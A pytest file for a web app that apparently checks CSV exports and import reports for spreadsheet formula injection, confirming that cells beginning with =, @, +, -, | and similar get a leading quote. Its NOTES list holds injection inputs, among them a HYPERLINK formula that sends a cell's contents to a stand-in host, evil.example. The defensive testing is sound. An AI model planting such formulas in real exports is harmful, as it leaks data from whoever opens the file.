"""Exports and import reports are opened in spreadsheets: a text cell that one would
run as a formula is written defused (a leading '), numbers as they are."""

import csv
import io
import uuid
from datetime import UTC, datetime

import pytest

from api.extensions import db
from api.models import AccountLine
from tests.admin.jobs import import_file, wait_finished
from tests.admin.test_job_control import start
from tests.helpers import create_user

pytestmark = pytest.mark.worker

NOTES = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+1", "-30-", "|cmd", "%d",
         "\t=1+1", "\rcmd", "a=b", "plain"]
DEFUSED = ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'@SUM(1+1)", "'+1", "'-30-", "'\\|cmd",
           "'%d", "'\t=1+1", "'\rcmd", "a=b", "plain"]


def test_export_cells_that_start_a_formula_are_defused(worker_app, admin, celery_worker):
    user = create_user(worker_app, f"payer{uuid.uuid4().hex[:8]}")
    with worker_app.app_context():
        db.session.add_all([AccountLine(user_id=user.id, kind="payment" if i == 0 else "manual",
                                        amount=-25 if i == 0 else 10,
                                        note=note, created_at=datetime(2026, 1, 1, tzinfo=UTC))
                            for i, note in enumerate(NOTES)])
        db.session.commit()
    client = worker_app.test_client()
    run = wait_finished(client, admin, start(client, admin, "export-account-lines").get_json()["task_id"])
    assert run["state"] == "succeeded", run
    body = client.get(run["output_url"], headers=admin.headers).get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [r["note"] for r in rows] == DEFUSED
    assert rows[0]["amount"] == "-25"  # a number, not a formula: as it is


def test_an_import_report_defuses_what_it_quotes_from_the_file(worker_app, admin, celery_worker):
    client = worker_app.test_client()
    upload = b"title,author,isbn,published_year\nBad,Someone,=1+2,2001\n"
    run = import_file(client, admin, upload)
    assert run["state"] == "succeeded" and run["result"]["invalid"] == 1, run
    [line] = csv.DictReader(io.StringIO(client.get(run["output_url"], headers=admin.headers)
                                        .get_data(as_text=True)))
    assert line["outcome"] == "invalid" and line["isbn"] == "'=1+2"
